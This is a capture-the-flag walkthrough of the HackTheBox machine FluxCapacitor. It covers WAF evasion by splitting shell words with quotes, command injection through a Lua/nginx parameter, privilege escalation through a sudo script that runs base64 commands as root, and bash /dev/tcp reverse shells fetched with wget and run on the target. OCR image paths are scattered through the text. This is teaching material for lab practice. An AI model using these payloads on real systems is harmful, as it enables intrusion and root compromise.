HackTheBox.eu – FluxCapacitor

FluxCapacitor was a box that you either loved or hated. I hated it at first but that was simply because I didn’t understand what was going on. After digging into it and getting RCE then going back and understanding how it all works this box is actually really cool and really interesting. I am a bit sad that it is being retired but at same time happy that I can finally talk about how it works and all the information I found. So without further delay lets dig into it.

Tools used:
-nc (optional)
-python/bash scripting (optional)

As with every new target the first thing we need to do is scan it with nmap to see what is running with the command nmap -sVC -oA nmap/initial this will run default scripts and attempt to identify whats running on the various ports.

└──>nmap -sVC -oA nmap/initial
Starting Nmap 7.60 ( https://nmap.org ) at 2018-05-11 13:11 EDT
Nmap scan report for
Host is up (0.073s latency).
Not shown: 999 closed ports
PORT   STATE SERVICE VERSION
80/tcp open  http    SuperWAF
| fingerprint-strings:
|   FourOhFourRequest:
|     HTTP/1.1 404 Not Found
|     Date: Fri, 11 May 2018 17:10:57 GMT

We are only seeing SuperWAF running on port 80. While loading up the site to investigate start a full scan of the box with nmap -p- -T4 -oA nmap/allports

Loading the site up in FireFox we see apretty bare site.

Checking the page source we actually see some interesting code.

<!DOCTYPE html>
<title>Keep Alive</title>
    OK: node1 alive
        Please, add timestamp with somethinglike:
        <script> $.ajax({ type: "GET", url: '/sync' }); </script>
    FluxCapacitor Inc. info@fluxcapacitor.htb - http://fluxcapacitor.htb<br>
    <em><met><doc><brown>Roads? Where we're going, we don't need roads.</brown></doc></met></em>

Looking at the /sync page however gives us a 403 Forbidden Error. Not sure why but with the info regarding an ajax request perhaps we have the wrong headers or something. I attempted to curl the site to see if we could get anything back and low and behold we do.

└──> curl

It looks to be returning the current timestamp. So something from our HTTP request was causing an issue…. Based on the nmap scan we know that there is a WAF between us and the server so that might be blocking it. I threw the HTTP request into burpsuite repeater and started playing with it.

After a bit of trial and error I found that the issue is that theWAF was blocking off of our User-Agent… simply removing it gives us a valid response.

Cool now what?

Fuzzing! When we find a random web application one of the tools in the tester arsenal is to throw random data at it and see if we can cause it to do things it shouldn’t normally do. We are going to be using wfuzz to try and find hidden parameters in the script. This step while not the most complex can be very frustrating because we do not know what we are looking for. I personally ran through my wordlist at least 5 times before I found a working solution.

wfuzz -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt  -u{baseline_value}=ls --hc=BBB

Whats going on here is that we are setting up wfuzz to enter in an item from the wordlist replacing the FUZZ text in the URL we give it nothing to complex. They keys in this command is the –hc=BBB and {baseline_value} what we are doing here is letting wfuzz connect once and get response to use as a compare. Then as it tries other items from the list it compares to the baseline query, if similar then skip if not it will tell us without this we are flooded with information. Additionally after running fuzz a few times with no hits I added in a simple bash command to try and get something to return. Leaving this running for a while we end up getting 1 hit opt!

└──> wfuzz -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt  -u{baseline_value}=ls --hc=BBB

* Wfuzz 2.2.9 - The Web Fuzzer                         *

Total requests: 220561

ID      Response   Lines      Word         Chars          Payload

000002:  C=200      2 L        1 W           19 Ch        "baseline_value"
009876:  C=403      7 L       10 W          175 Ch        "opt"

opt gives us a 403 HTTP responsewhich was the same response we got from the WAF when it was blocking our user agent so it is very likely we are on the right track. Now the real fun comes from us trying to figure out how to bypass the WAF filters. The creator of the box actually has two (here and here) different posts regarding WAF bypass using wildcards and string concat which are very informative anduseful. I personally couldn’t get much headway with the wildcards so I ended up working with the strings.

I usedburp for the remainder of this challenge as the repeater is a really easy place to mess with queries and quickly change based on results. Curl however would work just as well and could be used to complete this. That said, I popped into burp and loaded up /sync?opt=ls and began trying to see if we could bypass the WAF

To begin I tried running commands like ‘l’s breaking things up to get around the WAF filter. It works but it didn’t give code execution like I expected, we get the timestamp.

This is a point in which I know numerous people were stumped and I was as well. However if we take a step back and think about what is going on here we can work this out. Firstly opt as a param is supposed to do something. We don’t know for sure but we can assume it is the time command. So if we begin thinking in terms of other types of code injection such as SQL we need to think of how our parameter is going to be used by the underlying app and what we need to do to escape and bypass it.

In an extremely simple SQL injection scenario let us say we have a web page with parameter ID. The app uses ID to pull posts based on their number so ID=1 would give first ID=2 second etc. The underlying code would take the ID (hopefully sanitized) and then pass it into a SQL statement to query the database.post = $_GET['ID'];
    query = "SELECT * FROM news WHERE ID='$post'";

For this code we could SQL inject with a simple OR 1=1. Now we cannot simply append that onto the end of the ID=1 or it will not return any resultsbecause there is not ID in the database ‘1OR 1=1’. If the code was setup to handle bad input we would see no error messages just a simple “post doesn’t exist” message. However if we correctly complete the SQL statement we can get full content dump. To do that we first need to close the ID=1 single quote then space and our commands. ID=1′ OR 1=1′ this would effectively be:

SELECT * FROM news WHERE ID='1' OR 1=1;

Which given that 1 is always equal to 1 returns a true and gives us all the posts. Now to apply this back to flux and the /sync page. With this knowledge we need to escape out of the current command to be able to send a second command to the script something like “/sync?opt=’ l’s” If this works as we expect then we should see the directory listing.

We have remote code execution that bypasses the WAF. In playing with burp there are a few things I noticed, most commands seemed to be filtered but whoami isn’t.Additionally we have to ensure we have an EVEN number of single quotes or weget a blank response no time or code execution. Likely we are breaking the script. So with that lets start enumerating the box.

Knowing that this is a CTF box lets go strait for the user flag by searching for text files!

We can see two user accounts in the Home directory, doing a cat on these will give us a little joke and the user flag

From here it is time to try and get root. The natural instinct is to run LinEnum and dig through all that but this box was actually quite strait forward with its privilege escalation.

Sudo -l one of the commands I’ve become use to checking after seeing it in multiple boxes and in bothholiday hack exercises the last 2 years, throwing that at the box yields some fruit

HTTP/1.1 200 OK
Date: Sat, 12 May 2018 01:50:51 GMT
Content-Type: text/plain
Connection: close
Server: SuperWAF
Content-Length: 332

Matching Defaults entries for nobody on fluxcapacitor:
    env_reset, mail_badpass, secure_path=/usr/local/sbin\:/usr/local/bin\:/usr/sbin\:/usr/bin\:/sbin\:/bin\:/snap/bin

User nobody may run the following commands on fluxcapacitor:
    (ALL) ALL
    (root) NOPASSWD: /home/themiddle/.monit
bash: -c: option requires an argument

We are able to run /home/themiddle/.monit not sure what that is or what it does so lets check.

.monit is a simple bash script that will take in 2 arguments, if the first is cmd then it will attempt to base 64 decode the second and run it as root. Cool, lets get the flag. First we need to b64 encode the string cat /root/root.txt which gives us Y2F0IC9yb290L3Jvb3QudHh0 then simply run the command

sudo /home/themiddle/.monit cmd Y2F0IC9yb290L3Jvb3QudHh0

I kept getting 403errors from the base64 so I ended up adding the single quotes between each character because it was easier than figuring out which was causing the error.Congratulations! We have pwned the box… but after reading a thread on the forums where someone claimed you couldn’t get shell to the box I dove deep into this one. The ideas of it really seem cool. So working backwards lets take a look at what is going on.

We will start with root shell which is actually really easy to get we just encode the pentestmonkey reverse shell code to base64 and run it.

└──> echo "bash -i >& /dev/tcp/ 0>&1" | base64

└──> nc -lvnp 1234
listening on [any] 1234 ...
connect to [] from (UNKNOWN) [] 58926
bash: cannot set terminal process group (516): Inappropriate ioctl for device
bash: no job control in this shell

Now that we have root shell lets dig into the box and see what we can find. First I did a search on the website to see what exactly is going on behind the scenes. The config file we need is /usr/local/openresty/nginx/conf/nginx.conf (found that with LinEnum and checking the running nginx process). 2 bits of code from the config are useful to us now the WAF code

modsecurity on;
location /sync {
default_type 'text/plain';
modsecurity_rules '
    SecDefaultAction "phase:1,log,auditlog,deny,status:403"
    SecDefaultAction "phase:2,log,auditlog,deny,status:403"SecRule REQUEST_HEADERS:User-Agent "^(Mozilla|Opera)" "id:1,phase:2,t:trim,block"

    SecRuleEngine On
    SecRule ARGS "@rx [;\(\)\|\`\<\>\&\$\*]" "id:2,phase:2,t:trim,t:urlDecode,block"
    SecRule ARGS "@rx (user\.txt|root\.txt)" "id:3,phase:2,t:trim,t:urlDecode,block"
    SecRule ARGS "@rx (\/.+\s+.*\/)" "id:4,phase:2,t:trim,t:urlDecode,block"SecRule ARGS "@rx (\.\.)""id:5,phase:2,t:trim,t:urlDecode,block"
    SecRule ARGS "@rx (\?s)" "id:6,phase:2,t:trim,t:urlDecode,block"

    SecRule ARGS:opt "@pmFromFile /usr/local/openresty/nginx/conf/unixcmd.txt" "id:99,phase:2,t:trim,t:urlDecode,block"

Going through the script we can see that if the User-Agent contains Mozilla/Opera block, this is why our first checks of /sync were erroring out. Then we see a bunch of common characters ;()<>%$* that is expected, next block if we try to type in user.txt or root.txt tricky. More characters to block, then directory traversal .. and ?s so trying to use one of the wildcard methods mentioned in the article /???/?s to try and run /bin/ls will fail. Lastly we see it is importing a whole list of unix commands lets take a look at that and see what we can and cannot do.

root@fluxcapacitor:/dev/shm/.fett# cat /usr/local/openresty/nginx/conf/unixcmd.txt
<tt# cat /usr/local/openresty/nginx/conf/unixcmd.txt
ls -al /usr/local/openresty/nginx/conf/
-rw-r--r--  1root root 10783 Dec  4 16:03 unixcmd.txt

This is actually a huge list with everything from automake, yes, no, cat, library names etc. This is why extra escapes were needed with the b64 encoded text… fun.. now back to the other part of the config the code that is running sync.

content_by_lua_block {
    local opt = 'date'
    if ngx.var.arg_opt then
            opt = ngx.var.arg_opt
    -- ngx.say("DEBUG: CMD='/home/themiddle/checksync "..opt.."'; bash -c $CMD 2>&1")
    local handle = io.popen("CMD='/home/themiddle/checksync "..opt.."'; bash -c ${CMD} 2>&1")
    local result = handle:read("*a")

Quick glance at the code confirms some of our assumptions.. opt is setup as a local variable that calls the bash command date however if it is fed an argument then we use that instead. from there the script sets up the command to be run similar to our SQL example, it appends the content of opt onto a string in this case executing the program at /home/themiddle/checksync and then pipes that all into bash. We can replicate this by typing it out in the shell we have

root@fluxcapacitor:~# CMD='/home/themiddle/checksync "date"';
CMD='/home/themiddle/checksync "date"';
root@fluxcapacitor:~# bash -c ${CMD} 2>&1
bash -c ${CMD} 2>&1

So with our code injection we were bypassing this by escaping out of the first code chunk and then leaving opt as its own command to be run (I think, I couldn’t replicate this in shell so it might be a nginx quirk I’m notsure). But either way we know how it works. Awesome!

Now for phase 2 we want to try and get a reverse shell as user. Knowing what we do about the commands we can and cannot use and the special symbols we are not going to be able to run it via the /sync page so we are forced to get creative.

In one of the articles there was talk of bypassing IP filter using long IP and other bits, originally I went down that path but turns out it isn’t needed. The machine has wget installed we can test this by passing the command on the /sync page and checking responses (I’m using python SimpleHTTPServer)

└──> python -m SimpleHTTPServer 80
Serving HTTP on port 80 ... - - [12/May/2018 09:15:14] "GET / HTTP/1.1" 200 -

So with that knowledge I created a reverse shell bash script with the intention of sending it over to the machineand then triggering it with sync avoiding all of the WAF filters. Let’s begin

└──> cat index.html

bash -i >& /dev/tcp/ 0>&1

└──> nc -lvnp 443
listening on [any] 443 ...

Simple reverse shell code stored in index.html, it might be possible to have it in a .sh file format but I was getting weird errors and decided to keep it simple. Then setup NC listener and we will try to upload to the boxGET /sync?opt=' w'g'e't' -P /t'm'p/fe't't'
GET /sync?opt=' c'h'm'o'd 777 -R /t'm'p'/'f'e't't/
GET /sync?opt=' /t'm'p'/'f'e't't/'i'n'd'e'x.'h't'm'l'

Three commands and we have shell, first we do a wget and store the output of index.html into /tmp/fett this must be a write enabled destination so /tmp is safe bet. Next chmod the entire /tmp/fett directory and its contents to 777 and then runit.

└──> nc -lvnp 443
listening on [any] 443 ...
connect to [] from (UNKNOWN) [] 49686
bash: cannot set terminal process group (516): Inappropriate ioctl for device
bash: no job control in this shell
nobody@fluxcapacitor:/$ id
uid=65534(nobody) gid=65534(nogroup) groups=65534(nogroup)
nobody@fluxcapacitor:/$ echo "winner winner chicken dinner"
echo "winner winner chicken dinner"
winner winner chicken dinner

We’ve done it shell as user/root with flags for both user/root and we fully know how this box works! Now on to how to secure it.

We know the WAF filters are doing some blocking but the opt code appears to be written in a way that we are expecting some code. Potentially as a backdoor bydeveloper or something. If sync is needed for time input then keep it as time input and use proper channels do not accept user input. If user input is needed then we need to filter out single and double quotes. Those are the reason we were able to bypass the filters and get RCE

